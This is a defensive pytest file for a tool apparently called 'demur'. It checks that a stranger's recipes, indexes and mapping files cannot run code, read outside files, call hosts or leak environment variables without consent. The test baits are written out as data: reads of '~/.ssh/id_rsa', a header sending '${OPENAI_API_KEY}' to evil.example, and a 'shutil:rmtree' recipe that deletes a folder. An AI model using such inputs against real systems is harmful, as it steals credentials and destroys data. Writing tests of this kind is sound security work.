"""Nothing of a stranger's folder runs, is read elsewhere, or is called: every part, every option, every kind of file."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

import demur
from demur.core.errors import CallError, DemurError, UntrustedFile, UsageError
from demur.core.plugins import find, names
from demur.core.store import Problems
from demur.core.untrusted import Choice, acts_of, check, trusting
from demur.corpora.docs import documents as read_docs
from demur.curation.build.folder import recipe_at
from demur.curation.build.rebuild import enlarge
from demur.evaluation.asking import ask
from demur.evaluation.options import RunOptions
from demur.indexing.folder import read_manifest
from demur.pools.read import PoolSource
from demur.retrieval.indexes import open_searcher
from demur.scenarios.systems.http_mapping import RagMapping
from demur.scenarios.systems.model import Sampling
from demur.sources import options_of
from demur.sources.generic import Generic

BAITS = {
    "module": ("bait_module:Bait", "run"),
    "function": ("python:bait_module:answer", "run"),
    "code of a model": ("evaclip:folder/x?trust_remote_code=yes", "run"),
    "host": ("http://127.0.0.1:9/v1#m", "call"),
    "folder above": ("../outside", "read"),
    "absolute": ("/etc/hostname", "read"),
    "home": ("~/.ssh/id_rsa", "read"),
    "link": ("link/secret.txt", "read"),
    "variable": ("${BAIT_KEY}", "send"),
}
"""What a stranger may write, and what it would do."""


@pytest.fixture
def sent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder from a stranger, which is the current one: with a module that notes its import, and a link."""
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.txt").write_text("secret")
    folder = tmp_path / "sent"
    folder.mkdir()
    (folder / "bait_module.py").write_text(
        "open('ran', 'w').close()\nclass Bait: ...\ndef answer(given): return ''\n"
    )
    (folder / "link").symlink_to(tmp_path / "outside")
    monkeypatch.chdir(folder)
    monkeypatch.setenv("BAIT_KEY", "a-secret-of-mine")
    return folder


def recipe_of(folder: Path, **keys: object) -> Path:
    """``folder`` as a build folder with that recipe."""
    recipe = {"name": "r", "sources": [{"name": "atlas"}], "gates": [{"system": "prior"}]} | keys
    (folder / "build").mkdir(exist_ok=True)
    state = {"recipe": recipe, "base": str(folder), "skip_bad": False}
    (folder / "build" / "recipe.json").write_text(json.dumps(state))
    return folder


def forms(kind: str, bait: str) -> Iterator[tuple[str, dict[str, str]]]:
    """(name, options) of every registered part of a kind, with a bait wherever one can be written."""
    for part in names(kind):
        factory = find(kind, part)[0]
        module = sys.modules[factory.__module__]
        declared = getattr(module, "_OPTIONS", None) or getattr(module, "OPTIONS", ())
        yield f"{part}:{bait}", {}
        for option in (*declared, "any"):
            yield f"{part}:x?{option}={bait}", {}
            yield f"{part}?{option}={bait}", {}
        of_dict = options_of(factory) if kind == "sources" else Sampling.model_fields
        if kind in ("sources", "systems"):
            yield from ((part, {option: bait}) for option in (*of_dict, "any"))
            yield part, {"extra": {"deep": [bait]}}  # type: ignore[dict-item]
    if ":" in bait:  # else it names nothing
        yield bait, {}


def in_recipe(kind: str, name: str, options: dict[str, str]) -> Iterator[dict[str, object]]:
    """Every place of a recipe that names such a part."""
    if kind == "sources":
        yield {"sources": [{"name": name, "options": options}]}
    elif kind == "systems":
        gate = {"system": name, "options": options, "name": "g"}
        yield {"gates": [{"system": "prior"}, gate]}
        yield {"monitors": [gate]}
        if name.startswith("model:"):
            yield {"topics": "bertopic", "topic_names": {"system": name, "options": options}}
    elif kind == "judges":
        yield {"judge": name}
    else:
        yield {"retrieval": {"encoder": name}}
        yield {"retrieval": {"text_encoder": name}}
        yield {"sources": [{"name": "atlas", "retrieval": {"encoder": name}}]}


def refused(folder: Path, act: str, door: Callable[[], object], bait: str) -> None:
    with pytest.raises(UntrustedFile) as caught:
        door()
    assert act in {does for does, _ in caught.value.acts}, (bait, caught.value.acts)
    flag = "--trust-code" if act in ("run", "read") else "--trust-hosts"
    assert flag in caught.value.cure
    assert Path(caught.value.item).absolute().is_relative_to(folder)
    assert not Path("ran").exists()


@pytest.mark.parametrize("kind", ["sources", "systems", "judges", "encoders"])
@pytest.mark.parametrize("bait", BAITS)
def test_no_part_in_a_recipe_of_a_folder_takes_a_bait(kind, bait, sent):
    text, act = BAITS[bait]
    tried = 0
    for name, options in forms(kind, text):
        for keys in in_recipe(kind, name, options):
            refused(sent, act, lambda: recipe_at(recipe_of(sent, **keys)), text)  # noqa: B023
            tried += 1
    assert tried > 10


@pytest.mark.parametrize("bait", ["folder above", "absolute", "link"])
def test_no_path_in_a_recipe_leads_out_of_its_folder(bait, sent):
    text, act = BAITS[bait]
    for keys in (
        {"sources": [{"name": "generic", "path": text}]},
        {"retrieval": {"index": text}},
        {"retrieval": {"tokenizer": text, "chunk": "250:32"}},
        {"retrieval": {"cross_encoder": text}},
        {"sources": [{"name": "atlas", "retrieval": {"cross_encoder": text}}]},
    ):
        refused(sent, act, lambda: recipe_at(recipe_of(sent, **keys)), text)  # noqa: B023


@pytest.mark.parametrize("bait", BAITS)
def test_no_mined_folder_takes_a_bait(bait, sent):
    text, act = BAITS[bait]
    (sent / "samples.jsonl").write_text("")

    def mined(**origin: object) -> None:
        (sent / "mining.json").write_text(json.dumps({"from": origin}))
        refused(sent, act, lambda: PoolSource(sent), text)

    for name, options in forms("sources", text):
        mined(source=name, folder=None, options=options)
    if act == "read" and bait != "home":
        mined(source="", folder=text)
        mined(source="generic", folder=text, options={})


@pytest.fixture(scope="module")
def index(tmp_path_factory) -> Path:
    place = tmp_path_factory.mktemp("index")
    (place / "kb.jsonl").write_text('{"id": "a", "title": "A", "text": "a text"}\n')
    demur.build_index(place / "kb.jsonl", place / "index", encoder="stub_encoder:stub")
    return place / "index"


@pytest.mark.parametrize("bait", BAITS)
def test_no_index_takes_a_bait(bait, sent, index):
    text, act = BAITS[bait]
    whole = json.loads((index / "manifest.json").read_text())
    here = sent / "index"
    here.mkdir()
    for path in index.iterdir():
        if path.name != "manifest.json":
            (here / path.name).symlink_to(path)
    for name, _ in forms("encoders", text):
        first = next(space for space in whole["encoders"] if space != "text")
        for space in {first, "text"} & set(whole["encoders"]):  # no other name is opened
            known = {s: {**e, "name": "offline"} for s, e in whole["encoders"].items()}
            encoders = {**known, space: {**known[space], "name": name}}
            (here / "manifest.json").write_text(json.dumps({**whole, "encoders": encoders}))
            refused(sent, act, lambda: open_searcher(here), text)
    for name, _ in forms("indexes", text):
        part = {**whole["parts"]["passages"], "kind": name, "lists": 1, "nprobe": 1, "refine": 1}
        files = {
            f"parts/passages/{f}": {"bytes": 0, "sha256": ""} for f in ("index.faiss", "lists.bin")
        }
        of = {**whole, "parts": {"passages": part}, "files": whole["files"] | files}
        (here / "manifest.json").write_text(json.dumps(of))
        refused(sent, act, lambda: read_manifest(here), text)


@pytest.fixture(scope="module")
def release(tmp_path_factory) -> Path:
    place = tmp_path_factory.mktemp("release")
    (place / "q.jsonl").write_text('{"id": "a", "question": "q?", "answers": ["x"]}\n')
    (place / "demur-map.yaml").write_text("samples: {files: [q.jsonl]}\n")
    return demur.open_release(f"generic:{place}", out=place).folder


@pytest.mark.parametrize("bait", BAITS)
def test_no_release_takes_a_bait(bait, sent, release):
    text, act = BAITS[bait]
    for name, _ in forms("encoders", text):
        opened = demur.open_release(release)
        opened.manifest["encoder"] = {"name": name}
        options = RunOptions(strictness="none", out=sent / "runs")
        refused(release, act, lambda: ask(opened, ["reader"], options), text)  # noqa: B023


def test_a_field_map_reads_below_its_folder_and_asks_nobody(sent):
    (sent / "q.jsonl").write_text("")
    for path, act in (
        ("../outside", "read"),
        ("/etc", "read"),
        ("link", "read"),
        ("owner/name", "call"),
    ):
        written = f"samples: {{dataset: {{path: '{path}'}}}}\n"
        (sent / "demur-map.yaml").write_text(written)
        refused(sent, act, lambda: Generic(sent), path)
        part = f"samples: {{files: [q.jsonl]}}\ndocuments: [{{dataset: {{path: '{path}'}}, fields: {{text: t}}}}]\n"
        (sent / "demur-map.yaml").write_text(part)
        refused(sent, act, lambda: Generic(sent), path)
    with trusting(code=True, hosts=True):
        assert Generic(sent).name == "generic"


def test_no_link_in_a_folder_of_documents_leads_out_of_it(sent):
    docs = sent / "docs"
    docs.mkdir()
    (docs / "a.txt").write_text("a text")
    (docs / "same.txt").symlink_to("a.txt")
    assert {d.id for d in read_docs(docs, Problems())} == {"a.txt", "same.txt"}
    (docs / "b.txt").symlink_to(sent.parent / "outside" / "secret.txt")
    refused(sent, "read", lambda: list(read_docs(docs, Problems())), "b.txt")
    with trusting(code=True):
        assert len(list(read_docs(docs, Problems()))) == 3


def test_a_mapping_sends_no_variable_without_consent(sent):
    mapping = sent / "rag.yaml"
    for line in ("headers: {X: '${BAIT_KEY}'}", "url: 'http://h/${BAIT_KEY}'"):
        mapping.write_text(f"{line}\n" + ("url: http://h/ask\n" if line.startswith("head") else ""))
        refused(sent, "send", lambda: RagMapping.read("rag.yaml"), line)
    with trusting(hosts=True):
        RagMapping.read("rag.yaml")
    mapping.write_text("url: http://h/ask\n")  # who names it means its host
    assert RagMapping.read("rag.yaml").url == "http://h/ask"


def test_a_gate_by_mapping_lists_the_host_and_the_variables(sent):
    (sent / "rag.yaml").write_text(
        "url: http://evil.example/ask\nheaders: {K: '${OPENAI_API_KEY}'}\n"
    )
    with pytest.raises(UntrustedFile) as caught:
        recipe_at(recipe_of(sent, gates=[{"system": "http:rag.yaml"}]))
    assert ("send", "OPENAI_API_KEY") in caught.value.acts
    assert any(does == "call" and "evil.example" in what for does, what in caught.value.acts)


PLAIN = {
    "judges": ("local", "cascade:openai/gpt-4o?below=0.9", "panel:local,openai/gpt-4o", "openai/o3",
               "panel:local,model:any-llm:ollama/llama3:latest", "lave:openai/ft:gpt-4o:acme::abc"),
    "systems": ("reader:min=0.4", "prior", "model:openai/gpt-4o", "model:hf:org/name@rev"),
    "encoders": ("offline", "open_clip:EVA02-B-16/merged2b_s8b_b131k",
                 "sentence-transformers:facebook/contriever?query=query: &batch=8"),
    "data": ("bert-base-uncased", "org/tokenizer"),
    "sources": ("atlas", "evqa"),
    "indexes": ("flat", "ivf-sq8", "bm25"),
}  # fmt: skip


def test_registered_parts_with_plain_options_need_no_consent(sent):
    for kind, texts in PLAIN.items():
        for text in texts:
            assert list(acts_of(Choice(kind, text), sent)) == [], text
    (sent / "data").mkdir()
    recipe_at(recipe_of(sent, sources=[{"name": "generic", "path": "data"}]))


def test_consent_runs_what_is_installed_and_never_the_current_folder(sent, tmp_path, monkeypatch):
    choice = [Choice("judges", "bait_module:Bait")]
    monkeypatch.setattr(sys, "path", ["", str(sent), *sys.path])
    monkeypatch.delitem(sys.modules, "bait_module", raising=False)
    with trusting(code=True), pytest.raises(UsageError, match="bait_module"):
        check(sent / "f.json", choice)
    assert not (sent / "ran").exists()
    monkeypatch.setenv("PYTHONPATH", str(sent))
    with trusting(code=True):
        check(sent / "f.json", choice)
    assert (sent / "ran").exists()
    with trusting(hosts=True), pytest.raises(UntrustedFile):
        check(sent / "f.json", choice)
    sys.modules.pop("bait_module", None)


@pytest.fixture
def caller() -> Iterator[tuple[str, Callable[[], int]]]:
    """(an address, how many connections it has had)."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.05)

        def calls() -> int:
            number = 0
            try:
                while True:
                    server.accept()[0].close()
                    number += 1
            except TimeoutError:
                return number

        yield f"127.0.0.1:{server.getsockname()[1]}", calls


def demur_in(folder: Path, *words: str) -> subprocess.CompletedProcess[str]:
    """The installed command, as a user runs it in a folder."""
    command = Path(sys.executable).with_name("demur")
    return subprocess.run(
        [command, *words], cwd=folder, capture_output=True, text=True, timeout=120,
        env={**os.environ, "PYTHONSAFEPATH": ""},
    )  # fmt: skip


@pytest.mark.heavy
def test_no_command_acts_for_a_stranger(sent, release, index, caller):
    """The installed command, in the stranger's folder: exit 2, nothing ran, was removed or called."""
    host, calls = caller
    (sent / "precious").mkdir()
    for path in release.parent.glob("release/**/*"):
        target = sent / path.relative_to(release.parent)
        if path.is_file():
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(path.read_bytes())
    whole = json.loads((index / "manifest.json").read_text())
    (sent / "index").mkdir()
    for path in index.iterdir():
        (sent / "index" / path.name).symlink_to(path) if path.name != "manifest.json" else None
    for encoder in whole["encoders"].values():
        encoder["name"] = "bait_module:Bait"
    (sent / "index" / "manifest.json").write_text(json.dumps(whole))
    (sent / "rag.yaml").write_text(f"url: http://{host}/ask\nheaders: {{K: '${{BAIT_KEY}}'}}\n")
    named = {
        "source": {"sources": [{"name": "shutil:rmtree", "path": "precious"}]},
        "judge": {"judge": "os:abort"},
        "gate": {"gates": [{"system": "prior"}, {"system": "python:bait_module:answer"}]},
        "service": {"gates": [{"system": "prior"}, {"system": "http:rag.yaml"}]},
        "model": {"gates": [{"system": "prior"}, {"system": f"model:http://{host}/v1#m"}]},
    }
    for keys in named.values():
        recipe_of(sent, **keys)
        for words in (
            ("build", ".", "--plan"),
            ("rebuild", "release", "--add-gate", "reader", "--out", "../new", "--plan"),
            ("rebuild", "release", "--add-gate", "reader", "--out", "../new"),
            ("convergence", "."),
        )[:: 1 if keys is named["source"] else 2]:
            done = demur_in(sent, *words)
            assert done.returncode == 2, (keys, words, done)
            assert "--trust-" in done.stderr
    for words in (("index", "search", "index", "--text", "a"), ("rag", "probe", "rag.yaml")):
        assert demur_in(sent, *words).returncode == 2, words
    assert calls() == 0
    assert (sent / "precious").is_dir()
    assert not (sent / "ran").exists()
    assert not (sent.parent / "new").exists()
    assert issubclass(UntrustedFile, DemurError)
    with pytest.raises(UntrustedFile):
        enlarge(sent / "release", ["reader"])


def test_python_agrees_by_keyword(index, sent):
    with pytest.raises(UntrustedFile) as caught:
        demur.open_index(index)
    assert caught.value.acts == (("run", "stub_encoder:stub"),)
    assert demur.open_index(index, trust_code=True).search("a text", k=1)
    (sent / "rag.yaml").write_text("url: http://127.0.0.1:9/\nheaders: {K: '${BAIT_KEY}'}\n")
    questions = {"id": "a", "question": "q?", "answers": ["x"]}
    (sent / "q.jsonl").write_text(json.dumps(questions))
    (sent / "demur-map.yaml").write_text("samples: {files: [q.jsonl]}\n")
    opened = demur.open_release(f"generic:{sent}", out=sent / "own")
    with pytest.raises(UntrustedFile):
        demur.evaluate(opened, "http:rag.yaml", scenarios="parametric", out=sent / "runs")
    with pytest.raises(CallError):  # it is asked, and nobody listens there
        demur.evaluate(
            opened, "http:rag.yaml", scenarios="parametric", out=sent / "runs", trust_hosts=True
        )
